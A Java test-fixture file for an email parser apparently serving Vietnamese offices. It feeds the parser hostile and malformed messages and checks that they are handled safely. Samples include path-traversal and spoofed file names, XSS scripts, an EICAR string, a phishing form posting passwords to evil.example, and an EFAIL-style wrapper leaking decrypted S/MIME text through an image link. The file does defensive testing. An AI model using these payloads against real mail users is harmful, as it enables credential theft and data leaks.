package vn.langnghe.mail.corpus;

import static org.assertj.core.api.Assertions.assertThat;
import static vn.langnghe.mail.corpus.Made.STORY;
import static vn.langnghe.mail.corpus.Made.TEXT;
import static vn.langnghe.mail.corpus.Made.base64;
import static vn.langnghe.mail.corpus.Made.bytes;
import static vn.langnghe.mail.corpus.Made.filePart;
import static vn.langnghe.mail.corpus.Made.htmlPart;
import static vn.langnghe.mail.corpus.Made.mail;
import static vn.langnghe.mail.corpus.Made.multipart;
import static vn.langnghe.mail.corpus.Made.parts;
import static vn.langnghe.mail.corpus.Made.storyPart;
import static vn.langnghe.mail.corpus.Made.wire;
import static vn.langnghe.mail.corpus.PartRows.file;

import java.util.Map;
import java.util.stream.Stream;
import vn.langnghe.mail.reader.ReadMail;
import vn.langnghe.mail.reader.ReadMail.Role;

/** Rows about files, about mails in mails, and about what other programs pack into one. */
final class FileRows {
    private static final byte[] SOME = Made.random(2_000);
    private static final String TWO_NAMES = "Content-Type: a/b; name=khac.pdf\r\nContent-Disposition: attachment;"
            + " filename*=utf-8''b%C3%A1o.pdf\r\n\r\nabc";

    private FileRows() {}

    static Stream<Row> all() {
        return Stream.of(names(), outlook(), insideMails(), dangerous(), phishing(), pages(), media(), sealed())
                .flatMap(s -> s);
    }

    private static Stream<Row> names() {
        Stream<Row> odd = Stream.of(
                        "../../etc/passwd",
                        "..\\\\..\\\\x",
                        "C:\\\\a.txt",
                        "/abs",
                        "a:b?c*d|e.pdf",
                        "<img src=x onerror=alert(1)>.jpg",
                        ".htaccess",
                        "báo cáo \u202Egpj.exe",
                        "ă".repeat(255),
                        "CON")
                .map(name -> Row.ok(
                        "M46",
                        name.substring(0, Math.min(30, name.length())),
                        multipart("mixed", storyPart(), filePart("application/pdf", name, SOME)),
                        m -> {
                            assertThat(m.text()).isEqualTo(STORY);
                            file(m, 0, name.replace("\\\\", "\\"), SOME);
                        }));
        return Stream.concat(
                odd,
                Stream.of(
                        Row.ok("M45", "a file of two names", multipart("mixed", storyPart(), TWO_NAMES), m -> {
                            file(m, 0, "báo.pdf", Made.bytes("abc"));
                            assertThat(m.files().get(0).type()).isEqualTo("a/b; name=\"khac.pdf\"");
                        }),
                        Row.ok(
                                "M46",
                                "two of one name",
                                multipart(
                                        "mixed", filePart("a/b", "a.pdf", SOME), filePart("a/b", "a.pdf", new byte[] {1
                                        })),
                                m -> {
                                    file(m, 0, "a.pdf", SOME);
                                    file(m, 1, "a.pdf", new byte[] {1});
                                }),
                        Row.ok(
                                "M46",
                                "no name, no content",
                                multipart(
                                        "mixed",
                                        storyPart(),
                                        "Content-Type: application/pdf\r\nContent-Disposition: attachment\r\n\r\n"),
                                m -> file(m, 0, "tep-1.pdf", new byte[0]))));
    }

    private static byte[] withTnef(byte[] tnef) {
        return multipart("mixed", storyPart(), filePart("application/ms-tnef", "winmail.dat", tnef));
    }

    private static Stream<Row> outlook() {
        byte[] good =
                new MadeTnef().file("bien-ban.docx", "biên bản.docx", SOME).bytes();
        byte[] damaged = good.clone();
        damaged[damaged.length - 1] ^= 1;
        byte[] nested = new MadeTnef()
                .message(new MadeTnef().body("Trong thư kèm").file("b.pdf", "b.pdf", SOME))
                .bytes();
        byte[] rtf = new MadeTnef()
                .rtf("{\\rtf1\\ansi\\ansicpg1258{\\fonttbl{\\f0 Arial;}}\\uc1 C\\'e1n b\\u7897? \\b v\\u7873?\\par"
                        + " s\\u7899?m}")
                .bytes();
        return Stream.of(
                Row.ok("M47", "a document in winmail.dat", withTnef(good), m -> {
                    assertThat(m.text()).isEqualTo(STORY);
                    assertThat(m.files()).hasSize(1);
                    file(m, 0, "biên bản.docx", SOME);
                }),
                Row.ok(
                        "M47",
                        "named otherwise, type unknown",
                        multipart("mixed", storyPart(), filePart("application/octet-stream", "WINMAIL.DAT", good)),
                        m -> file(m, 0, "biên bản.docx", SOME)),
                Row.ok(
                        "M47",
                        "two of one name",
                        withTnef(new MadeTnef()
                                .file("a", "a.pdf", SOME)
                                .file("a", "a.pdf", new byte[] {1})
                                .bytes()),
                        m -> assertThat(m.files()).hasSize(2)),
                Row.ok("M47", "a wrong sum", withTnef(damaged), m -> {
                    assertThat(m.trace()).contains("tnef-broken");
                    file(m, 0, "winmail.dat", damaged);
                    assertThat(m.files().get(1).name()).isEqualTo("biên bản.docx");
                }),
                Row.ok("M47", "cut off", withTnef(java.util.Arrays.copyOf(good, good.length - 700)), m -> {
                    assertThat(m.trace()).contains("tnef-broken");
                    assertThat(m.files().get(0).name()).isEqualTo("winmail.dat");
                }),
                Row.ok("M47", "no winmail.dat at all", withTnef(SOME), m -> file(m, 0, "winmail.dat", SOME)),
                Row.ok("M47", "a message in it", withTnef(nested), m -> {
                    assertThat(m.further()).contains(new ReadMail.Words(Role.FORWARDED, "Trong thư kèm"));
                    file(m, 0, "b.pdf", SOME);
                }),
                Row.ok(
                        "M47",
                        "only rich text",
                        mail("Content-Type: application/ms-tnef; name=winmail.dat\r\n"
                                + "Content-Transfer-Encoding: base64\r\n\r\n" + base64(rtf)),
                        m -> assertThat(m.text()).isEqualTo("Cán bộ về\nsớm")),
                Row.ok(
                        "M47",
                        "only a body in the code of Windows",
                        mail("Content-Type: application/ms-tnef\r\n" + "Content-Transfer-Encoding: base64\r\n\r\n"
                                + base64(new MadeTnef().body("Cán bộ về sớm.").bytes())),
                        m -> assertThat(m.text()).isEqualTo("Cán bộ về sớm.")));
    }

    private static String attached(String header, byte[] mail) {
        return "Content-Type: message/rfc822\r\n" + header + "\r\n"
                + new String(mail, java.nio.charset.StandardCharsets.UTF_8);
    }

    private static Stream<Row> insideMails() {
        String inner = "From: Công dân <that@example.org>\r\nSubject: Đơn gốc\r\n"
                + parts("b9", "mixed", storyPart(), filePart("application/pdf", "a.pdf", SOME));
        String fifty = inner;
        for (int i = 0; i < 50; i++) {
            fifty = "Subject: lớp " + i + "\r\nContent-Type: message/rfc822\r\n\r\n" + fifty;
        }
        String deep = fifty;
        return Stream.of(
                Row.ok(
                        "M48",
                        "a complaint passed on",
                        multipart("mixed", TEXT + "Xem thư kèm.", attached("", bytes(inner))),
                        FileRows::passedOn),
                Row.ok(
                        "M48",
                        "in base64",
                        multipart(
                                "mixed",
                                TEXT + "Xem thư kèm.",
                                attached("Content-Transfer-Encoding: base64\r\n", bytes(base64(bytes(inner))))),
                        FileRows::passedOn),
                Row.ok("M48", "50 deep", mail("Content-Type: message/rfc822\r\n\r\n" + deep), m -> {
                    assertThat(m.further()).anyMatch(w -> w.text().contains("phòng tư pháp"));
                    assertThat(m.files()).hasSize(2);
                }),
                Row.held(
                        "M49",
                        "a piece of a split mail",
                        mail("Content-Type: message/partial; number=1; total=3; id=\"a@b\"\r\n\r\n" + TEXT
                                + wire(STORY)),
                        "partial",
                        m -> assertThat(m.files()).hasSize(1)),
                Row.held(
                        "M49",
                        "the last piece of a split mail",
                        mail("Content-Type: message/partial; id=\"a@b\"; number=3; total=3\r\n\r\n" + wire(STORY)),
                        "partial",
                        m -> assertThat(m.files()).hasSize(1)),
                Row.held(
                        "M49",
                        "content elsewhere",
                        mail("Content-Type: message/external-body; access-type=URL;"
                                + " URL=\"http://127.0.0.1:9/a\"\r\n\r\nContent-Type: text/plain\r\n\r\n"),
                        "external-body",
                        m -> assertThat(m.files()).hasSize(1)));
    }

    private static void passedOn(ReadMail m) {
        assertThat(m.text()).isEqualTo("Xem thư kèm.");
        assertThat(m.sender()).map(ReadMail.Sender::address).contains("be.nam@example.org");
        assertThat(m.further()).containsExactly(new ReadMail.Words(Role.FORWARDED, "Đơn gốc\n" + STORY));
        assertThat(m.files()).extracting(ReadMail.MailFile::name).containsExactly("tep-1.eml", "a.pdf");
        file(m, 1, "a.pdf", SOME);
    }

    private static Stream<Row> dangerous() {
        Map<String, byte[]> files = Map.of(
                "eicar.com", Made.latin("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
                "gif.jar", Made.join(Made.latin("GIF89a"), SOME, Made.latin("PK\u0003\u0004")),
                "42.zip", Made.join(Made.latin("PK\u0003\u0004"), SOME),
                "a.exe", Made.latin("MZ\u0090\0"),
                "a.js", bytes("alert(1)"),
                "a.one", SOME,
                "a.html", bytes("<script>alert(1)</script>"));
        return files.entrySet().stream()
                .sorted(Map.Entry.comparingByKey())
                .map(f -> Row.ok(
                        f.getKey().matches(".*\\.(exe|js|one|html)") ? "M58" : "M57",
                        f.getKey(),
                        multipart("mixed", storyPart(), filePart("text/html", f.getKey(), f.getValue())),
                        m -> {
                            assertThat(m.text()).isEqualTo(STORY);
                            assertThat(m.html()).isEmpty();
                            file(m, 0, f.getKey(), f.getValue());
                        }));
    }

    private static Stream<Row> phishing() {
        String kit = "<p>Xin cap nhat tai khoan</p><form method=post action='https://evil.example/x'>"
                + "<input name=u><input type=password name=p></form>";
        return Stream.of(
                Row.ok("M79", "a form that wants a password", mail(htmlPart(kit)), m -> {
                    assertThat(m.suspect()).contains("password-form");
                    assertThat(m.html()).doesNotContain("form", "evil");
                }),
                Row.ok(
                        "M79",
                        "the same as a file",
                        multipart(
                                "mixed", storyPart(), filePart("application/octet-stream", "hoa don.HTM", bytes(kit))),
                        m -> {
                            assertThat(m.suspect()).contains("password-form");
                            assertThat(m.text()).isEqualTo(STORY);
                            file(m, 0, "hoa don.HTM", bytes(kit));
                        }),
                Row.ok(
                        "M79",
                        "passed on by somebody who complains of it",
                        multipart("mixed", storyPart(), attached("", mail(htmlPart(kit)))),
                        m -> {
                            assertThat(m.suspect()).isEmpty();
                            assertThat(m.text()).isEqualTo(STORY);
                        }));
    }

    private static Row page(String name, String html, String words) {
        return Row.ok("M60", name, mail(htmlPart(html)), m -> {
            assertThat(m.text()).isEqualTo(words);
            assertThat(m.html())
                    .doesNotContainPattern(
                            "(?i)<(script|style|base|meta|form|img|svg|object|iframe|link|input|a)\\b|\\b(href|src|style|on\\w+)\\s*=|url\\(");
        });
    }

    private static Stream<Row> pages() {
        return Stream.of(
                page("script", "<p>A<script>alert(1)</script><svg onload=alert(1)>B", "AB"),
                page(
                        "base, refresh",
                        "<head><base href=http://e/><meta http-equiv=refresh content='0;url=http://e/'></head>A",
                        "A"),
                page("form", "<form action=http://e/><input name=a value=b>A<button>B</button></form>", "AB"),
                page(
                        "style",
                        "<style>@import 'http://e/';a[href^=x]{background:url(http://e/)}</style><p style='a:url(x)'>A",
                        "A"),
                page(
                        "remote picture",
                        "A<img src=http://127.0.0.1:9/a.png onerror=x()><img src='data:image/svg+xml,x'>B",
                        "AB"),
                page("object, frame", "<iframe src=http://e/>x</iframe><object data=http://e/></object>A", "A"),
                page(
                        "a link that lies",
                        "<a href='http://evil.example/'>http://office.example/</a>",
                        "http://office.example/ (http://evil.example/)"),
                page("a link that runs", "<a href='javascript:alert(1)'>A</a>", "A"),
                page("1,500 times the same picture", "<img src='cid:1'>".repeat(1_500) + "A", "A"),
                Row.ok(
                        "M60",
                        "50,000 nested tags",
                        mail(htmlPart("<div>".repeat(50_000) + "A")),
                        m -> assertThat(m.text()).isEqualTo("A")),
                Row.ok(
                        "M60",
                        "links in nested tables",
                        mail(htmlPart("<table><td><a href='http://e/'>x".repeat(20_000))),
                        m -> assertThat(m.text()).startsWith("x")),
                Row.ok("M60", "5 MB", mail(htmlPart("<p>Cán bộ về sớm.</p>".repeat(250_000))), m -> {
                    assertThat(m.text()).startsWith("Cán bộ về sớm.");
                    assertThat(m.files()).hasSize(1);
                }));
    }

    private static Stream<Row> media() {
        return Stream.of(
                Row.ok(
                        "M61",
                        "only a picture",
                        mail("Content-Type: image/jpeg\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64(SOME)),
                        m -> {
                            assertThat(m.text()).isEmpty();
                            file(m, 0, "tep-1.jpeg", SOME);
                        }),
                Row.ok(
                        "M61",
                        "only a voice",
                        multipart("mixed", filePart("audio/amr", "ghi am.amr", SOME)),
                        m -> file(m, 0, "ghi am.amr", SOME)),
                Row.ok(
                        "M62",
                        "an invitation",
                        multipart(
                                "alternative",
                                storyPart(),
                                "Content-Type: text/calendar; method=REQUEST; charset=utf-8\r\n\r\nBEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\n"
                                        + "ATTACH:http://127.0.0.1:9/a\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"),
                        m -> {
                            assertThat(m.text()).isEqualTo(STORY);
                            assertThat(m.files())
                                    .singleElement()
                                    .satisfies(f -> assertThat(f.name()).isEqualTo("tep-1.ics"));
                        }));
    }

    private static byte[] opaque(byte[] cms, String kind) {
        return mail("Content-Type: application/pkcs7-mime; smime-type=" + kind + "; name=smime.p7m\r\n"
                + "Content-Transfer-Encoding: base64\r\n\r\n" + base64(cms));
    }

    private static Stream<Row> sealed() {
        byte[] content = bytes(storyPart());
        String pgp = "-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA\r\n-----END PGP MESSAGE-----";
        return Stream.of(
                Row.ok(
                        "M63",
                        "signed, the signature apart",
                        multipart(
                                "signed; micalg=sha-256",
                                storyPart(),
                                filePart("application/pkcs7-signature", "smime.p7s", SOME)),
                        m -> {
                            assertThat(m.text()).isEqualTo(STORY);
                            assertThat(m.trace()).contains("signed");
                            assertThat(m.held()).isEmpty();
                            file(m, 0, "smime.p7s", SOME);
                        }),
                Row.ok(
                        "M63",
                        "signed apart, the signature is broken and its certificate points elsewhere",
                        multipart(
                                "signed; protocol=\"application/pkcs7-signature\"",
                                storyPart(),
                                filePart(
                                        "application/pkcs7-signature",
                                        "smime.p7s",
                                        Made.join(
                                                MadeCms.signed(new byte[0], false),
                                                Made.latin("http://127.0.0.1:9/crl http://127.0.0.1:9/ocsp")))),
                        m -> {
                            assertThat(m.text()).isEqualTo(STORY);
                            assertThat(m.trace()).contains("signed").doesNotContain("encrypted");
                            assertThat(m.held()).isEmpty();
                        }),
                signed("signed as a whole", MadeCms.signed(content, false)),
                signed("signed as a whole, in pieces", MadeCms.signed(content, true)),
                Row.held("M63", "encrypted", opaque(MadeCms.encrypted(), "enveloped-data"), "encrypted", m -> {
                    assertThat(m.text()).isEmpty();
                    file(m, 0, "smime.p7m", MadeCms.encrypted());
                }),
                Row.held(
                        "M63",
                        "broken",
                        opaque(SOME, "signed-data"),
                        "encrypted",
                        m -> assertThat(m.files()).hasSize(1)),
                Row.held(
                        "M64",
                        "encrypted with PGP/MIME",
                        multipart(
                                "encrypted; protocol=\"application/pgp-encrypted\"",
                                "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1",
                                "Content-Type: application/octet-stream; name=encrypted.asc\r\n\r\n" + pgp),
                        "encrypted",
                        m -> assertThat(m.files()).hasSize(2)),
                Row.held(
                        "M64",
                        "encrypted in the text",
                        mail(TEXT + pgp),
                        "encrypted",
                        m -> assertThat(m.text()).contains("BEGIN PGP MESSAGE")),
                Row.ok(
                        "M64",
                        "signed with PGP/MIME",
                        multipart(
                                "signed; protocol=\"application/pgp-signature\"",
                                storyPart(),
                                "Content-Type: application/pgp-signature\r\n\r\n-----BEGIN PGP SIGNATURE-----"),
                        m -> {
                            assertThat(m.text()).isEqualTo(STORY);
                            assertThat(m.files())
                                    .singleElement()
                                    .satisfies(f -> assertThat(f.name()).isEqualTo("tep-1.asc"));
                        }),
                Row.held(
                        "M64",
                        "wrapped to leak what is decrypted",
                        multipart(
                                "mixed",
                                htmlPart("<img src=\"http://e/"),
                                "Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n"
                                        + "Content-Transfer-Encoding: base64\r\n\r\n" + base64(MadeCms.encrypted()),
                                htmlPart("\">")),
                        "encrypted",
                        m -> assertThat(m.html()).doesNotContain("http")));
    }

    private static Row signed(String name, byte[] cms) {
        return Row.ok("M63", name, opaque(cms, "signed-data"), m -> {
            assertThat(m.text()).isEqualTo(STORY);
            assertThat(m.held()).isEmpty();
            assertThat(m.trace()).contains("signed");
            file(m, 0, "smime.p7m", cms);
        });
    }
}
